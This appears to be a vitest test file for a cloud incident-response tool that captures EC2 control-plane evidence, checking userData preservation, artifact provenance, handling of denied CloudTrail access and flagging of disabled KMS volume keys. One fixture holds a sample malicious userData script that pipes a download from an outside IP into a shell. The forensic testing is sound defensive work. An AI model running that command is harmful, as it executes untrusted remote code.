import { addKey, awsError } from '@cordon/testkit';
import { describe, expect, it } from 'vitest';
import { IncidentPipeline } from '../../../../src/engine/pipeline.js';
import { runIncident } from '../../../../src/host/run-incident.js';
import { controlPlaneEvidence } from '../../../../src/steps/capture/control-plane/control-plane-evidence.js';
import { inspect } from '../../../../src/steps/inspect/inspect.js';
import { FINDING, REGION, SUSPECT, type SuspectWorld, suspectWorld } from '../../world/suspect-world.js';

const PIPELINE = IncidentPipeline.create('t').use(inspect()).use(controlPlaneEvidence());
const run = ({ options }: SuspectWorld) => runIncident(PIPELINE, FINDING, options);

describe('control-plane evidence', () => {
  it('keeps userData byte for byte, and needs no SSM', async () => {
    const script = '#!/bin/bash\ncurl http://203.0.113.66/x | sh\n';
    const userData = Buffer.from(script).toString('base64');
    const world = suspectWorld({ instance: { userData } });
    expect(await run(world)).toMatchObject({ outcome: 'complete' });
    expect(world.evidence.text('control-plane/user-data.bin')).toBe(script);
  });

  it('says who took it, and from what', async () => {
    const world = suspectWorld();
    const { incidentId } = await run(world);
    const entries = await (await world.journal.visit(incidentId)).read();
    const artifacts = entries.flatMap((entry) => (entry.kind === 'artifact' ? [entry.body] : []));
    expect(artifacts.length).toBeGreaterThan(6);
    const list = artifacts.filter(({ path }) => path === 'control-plane/taken.json');
    expect(list).toEqual([expect.objectContaining({ acquiredBy: 'cordon' })]);
    for (const one of artifacts.filter((each) => !list.includes(each)))
      expect(one).toMatchObject({ acquiredBy: 'control-plane', origin: FINDING.suspect.instanceId });
  });

  it('goes on without what it may not read, and says what is missing', async () => {
    const world = suspectWorld();
    world.world.faults.add({
      operation: 'cloudtrail:LookupEvents',
      fault: awsError('AccessDeniedException', 'no', { status: 400 }),
      times: 100,
    });
    const result = await run(world);
    expect(result).toMatchObject({ outcome: 'incomplete' });
    expect(world.evidence.paths()).toContain('control-plane/instance.json');
    expect(await world.notices(result.incidentId)).toContain('NOT_TAKEN');
  });

  it.each(['Disabled', 'PendingDeletion'] as const)(
    'calls a volume’s key that is %s critical',
    async (state) => {
      const id = '11111111-2222-4333-8444-555555555555';
      const kmsKeyArn = `arn:aws:kms:${REGION}:${SUSPECT}:key/${id}`;
      const world = suspectWorld({ instance: { volumes: [{ device: '/dev/xvda', kmsKeyArn }] } });
      addKey(world.region, { id, state });
      const { incidentId } = await run(world);
      const entries = await (await world.journal.visit(incidentId)).read();
      const seen = entries.flatMap((entry) => (entry.kind === 'observations' ? entry.body.observations : []));
      expect(seen).toEqual([expect.objectContaining({ rule: 'kms.volume-key', severity: 'critical' })]);
    },
  );
});
